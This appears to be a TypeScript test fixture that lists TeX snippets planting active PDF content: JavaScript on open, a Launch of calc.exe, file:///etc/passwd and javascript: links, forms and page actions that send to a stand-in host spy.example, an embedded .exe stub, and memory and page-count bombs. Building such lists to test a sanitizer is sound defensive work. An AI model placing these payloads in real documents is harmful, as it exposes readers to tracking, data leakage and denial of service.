/** What an employer's reader would act upon, as TeX that a stranger's template holds. */
export const ACTIVE: Readonly<Record<string, string>> = {
  "a script when it is opened": "\\special{pdf:put @catalog <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>}",
  "a script in another object":
    "\\special{pdf:obj @evil <</S/JavaScript/JS(app.alert(1))>>}\\special{pdf:put @catalog <</OpenAction @evil>>}",
  "a script by an odd name": "\\special{pdf:put @catalog <</Open\\string#41ction<</S/JavaScript/JS(x)>>>>}",
  "scripts by name": "\\special{pdf:put @names <</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>}",
  "an action of a page": "\\special{pdf:put @thispage <</AA<</O<</S/URI/URI(https://spy.example)>>>>>>}",
  "a program to start": "\\special{pdf:ann width 9pt height 9pt <</Subtype/Link/A<</S/Launch/F(calc.exe)>>>>}",
  "a script behind a link": "\\special{pdf:ann width 9pt height 9pt <</Subtype/Link/A<</S/URI/URI(javascript:x)>>>>}",
  "a file behind a link":
    "\\special{pdf:ann width 9pt height 9pt <</Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>>>}",
  "another document":
    "\\special{pdf:ann width 9pt height 9pt <</Subtype/Link/A<</S/GoToR/F(\\string\\\\spy)/D[0/Fit]>>>>}",
  "a form that is sent":
    "\\special{pdf:put @catalog <</AcroForm<</Fields[<</FT/Btn/T(a)/A<</S/SubmitForm/F(https://spy.example)>>>>]>>>>}",
  "a file that comes along":
    "\\special{pdf:stream @file (MZ)}\\special{pdf:put @names <</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F @file>>>>]>>>>}",
  "a file that is attached":
    "\\special{pdf:ann width 9pt height 9pt <</Subtype/FileAttachment/FS<</Type/Filespec/F(a.exe)>>>>}",
  "a film": "\\special{pdf:ann width 9pt height 9pt <</Subtype/RichMedia>>}",
  "a lock": "\\special{pdf:encrypt ownerpw (a) userpw () length 40 perm 12}",
  "a thousand pages": "\\ArLoop=0 \\loop\\ifnum\\ArLoop<1000 \\shipout\\hbox{x}\\advance\\ArLoop1 \\repeat",
  "what unpacks to more than memory":
    "\\def\\x{q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q q Q }\\edef\\x{\\x\\x\\x\\x\\x\\x\\x\\x}\\edef\\x{\\x\\x\\x\\x\\x\\x\\x\\x}" +
    "\\edef\\x{\\x\\x\\x\\x\\x\\x\\x\\x}\\ArLoop=0 \\loop\\ifnum\\ArLoop<150 " +
    "\\shipout\\vbox{\\special{pdf:code \\x}\\special{pdf:code \\x}\\special{pdf:code \\x}\\special{pdf:code \\x}\\special{pdf:code \\x}\\special{pdf:code \\x}\\special{pdf:code \\x}\\special{pdf:code \\x}}\\advance\\ArLoop1 \\repeat",
};

/** A PDF that TeX writes itself, letter by letter, where its driver's would lie. */
export const OWN_PDF =
  "\\catcode`\\%=12 \\immediate\\openout5=texput.pdf " +
  "\\immediate\\write5{%PDF-1.5^^J1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj^^J2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj^^J" +
  "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>> endobj^^J4 0 obj <</Length 2>>stream^^JQq^^Jendstream endobj^^J" +
  "trailer <</Root 1 0 R/Size 5>>^^Jstartxref^^J0^^J%%EOF}\\immediate\\closeout5 \\csname @@end\\endcsname ";
